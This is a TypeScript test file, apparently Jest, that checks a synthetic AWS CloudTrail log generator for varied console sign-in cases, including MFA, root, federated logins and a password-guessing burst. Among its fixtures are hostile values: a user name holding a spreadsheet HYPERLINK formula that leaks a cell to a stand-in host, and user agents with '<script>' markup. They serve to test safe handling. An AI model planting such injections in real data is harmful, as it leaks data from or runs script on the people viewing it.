import { type CloudTrailRecord, sampleLogFiles } from '../../src/sample/sample.ts';

const LAST_DAY = '2025-10-31';
const HIDDEN = 'HIDDEN_DUE_TO_SECURITY_REASONS';

const records: CloudTrailRecord[] = [...sampleLogFiles({ days: 3, events: 1000, seed: 1 })]
  .filter((file) => file.events > 0)
  .flatMap((file) => JSON.parse(file.json).Records);
const lastDay = records.filter((record) => record.eventTime.startsWith(LAST_DAY));
const logins = lastDay.filter((record) => record.eventName === 'ConsoleLogin');

describe('the last day of a small sample', () => {
  it.each<[string, (login: CloudTrailRecord) => unknown]>([
    ['an IAM user with MFA', (login) => isUser(login) && succeeded(login) && mfa(login) === 'Yes'],
    ['an IAM user without MFA', (login) => isUser(login) && succeeded(login) && mfa(login) === 'No'],
    ['an IAM user in us-east-1', (login) => isUser(login) && login.awsRegion === 'us-east-1'],
    ['an IAM user in us-east-2', (login) => isUser(login) && login.awsRegion === 'us-east-2'],
    ['an IAM user in ap-southeast-2', (login) => isUser(login) && login.awsRegion === 'ap-southeast-2'],
    ['an IAM user at a regional endpoint', (login) => isUser(login) && login.awsRegion === 'ap-northeast-1'],
    ['a wrong password', (login) => login.errorMessage === 'Failed authentication' && isUser(login)],
    ['an unknown user name', (login) => login.userIdentity.userName === HIDDEN],
    [
      'root with MFA',
      (login) => login.userIdentity.type === 'Root' && succeeded(login) && mfa(login) === 'Yes',
    ],
    ['root with a wrong password', (login) => login.userIdentity.type === 'Root' && !succeeded(login)],
    ['someone federated by SAML', (login) => login.additionalEventData?.SamlProviderArn],
    [
      'someone of Identity Center',
      (login) => issuer(login).startsWith('AWSReservedSSO_AdministratorAccess_'),
    ],
    ['an IPv6 address', (login) => login.sourceIPAddress.startsWith('2001:db8:')],
    ['a browser that is a formula', (login) => `${login.userAgent}`.startsWith('=HYPERLINK(')],
    ['a browser that is markup', (login) => `${login.userAgent}`.includes('<script>')],
  ])('has a sign-in of %s', (_, kind) => {
    expect(logins.filter(kind).length).toBeGreaterThan(0);
  });

  it.each(['CheckMfa', 'SwitchRole', 'PasswordUpdated', 'UserAuthentication'])(
    'has %s beside the logins',
    (eventName) => {
      const found = lastDay.filter((record) => record.eventName === eventName);
      expect(found.map((record) => record.eventSource)).toContain('signin.amazonaws.com');
    },
  );

  it('has a burst of failures from one address, then a success', () => {
    const guesses = logins.filter(
      (login) => login.sourceIPAddress === '198.51.100.66' && login.eventTime < `${LAST_DAY}T18`,
    );
    const outcomes = guesses.sort((one, other) => (one.eventTime < other.eventTime ? -1 : 1)).map(succeeded);
    expect(outcomes.length).toBeGreaterThan(10);
    expect(outcomes.indexOf(true)).toBe(outcomes.length - 1);
  });

  it('has a sign-in that was delivered on the day after', () => {
    const dayAfter = [...sampleLogFiles({ days: 1, events: 1000, seed: 1 })].filter((file) =>
      file.key.includes('/2025/11/01/'),
    );
    const late: CloudTrailRecord[] = dayAfter.flatMap((file) => JSON.parse(file.json).Records);
    const times = late
      .filter((record) => record.eventName === 'ConsoleLogin')
      .map((record) => record.eventTime.slice(11, 16));
    expect(times).toEqual(expect.arrayContaining(['20:14', '23:57']));
  });

  it.each(['田中太郎', '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")', '=1+1@example.com'])(
    'has an IAM user named %s',
    (name) => {
      expect(lastDay.map((record) => record.userIdentity.userName)).toContain(name);
    },
  );

  it('has values of unlikely JSON types', () => {
    const types = (field: keyof CloudTrailRecord) => new Set(lastDay.map((record) => typeof record[field]));
    expect([...types('readOnly')]).toEqual(expect.arrayContaining(['boolean', 'string']));
    expect([...types('userAgent')]).toEqual(expect.arrayContaining(['object', 'string']));
    expect([...types('requestParameters')]).toEqual(expect.arrayContaining(['object', 'string']));
  });
});

describe('sign-in records', () => {
  it('hide an unknown name, and show neither arn nor principal', () => {
    for (const { userIdentity, errorMessage } of logins.filter(
      (login) => login.userIdentity.userName === HIDDEN,
    )) {
      expect(Object.keys(userIdentity).sort()).toEqual(['accessKeyId', 'accountId', 'type', 'userName']);
      expect(errorMessage).toBe('No username found in supplied account');
    }
  });

  it('keep the name after a wrong password, without an arn', () => {
    const failed = logins.filter((login) => isUser(login) && login.errorMessage === 'Failed authentication');
    expect(failed.length).toBeGreaterThan(0);
    for (const { userIdentity } of failed) expect(userIdentity).not.toHaveProperty('arn');
  });

  it('show root without a user name', () => {
    for (const { userIdentity } of records.filter((record) => record.userIdentity.type === 'Root'))
      expect(userIdentity).not.toHaveProperty('userName');
  });

  it('say No to MFA for whoever is federated', () => {
    const federated = records.filter(
      (record) => record.eventName === 'ConsoleLogin' && record.userIdentity.type === 'AssumedRole',
    );
    expect(new Set(federated.map(mfa))).toEqual(new Set(['No']));
  });
});

function isUser(login: CloudTrailRecord): boolean {
  return login.userIdentity.type === 'IAMUser';
}

function succeeded(login: CloudTrailRecord): boolean {
  return (login.responseElements as { ConsoleLogin: string }).ConsoleLogin === 'Success';
}

function mfa(login: CloudTrailRecord): unknown {
  return login.additionalEventData?.MFAUsed;
}

function issuer(login: CloudTrailRecord): string {
  const context = login.userIdentity.sessionContext as { sessionIssuer?: { userName?: string } } | undefined;
  return context?.sessionIssuer?.userName ?? '';
}
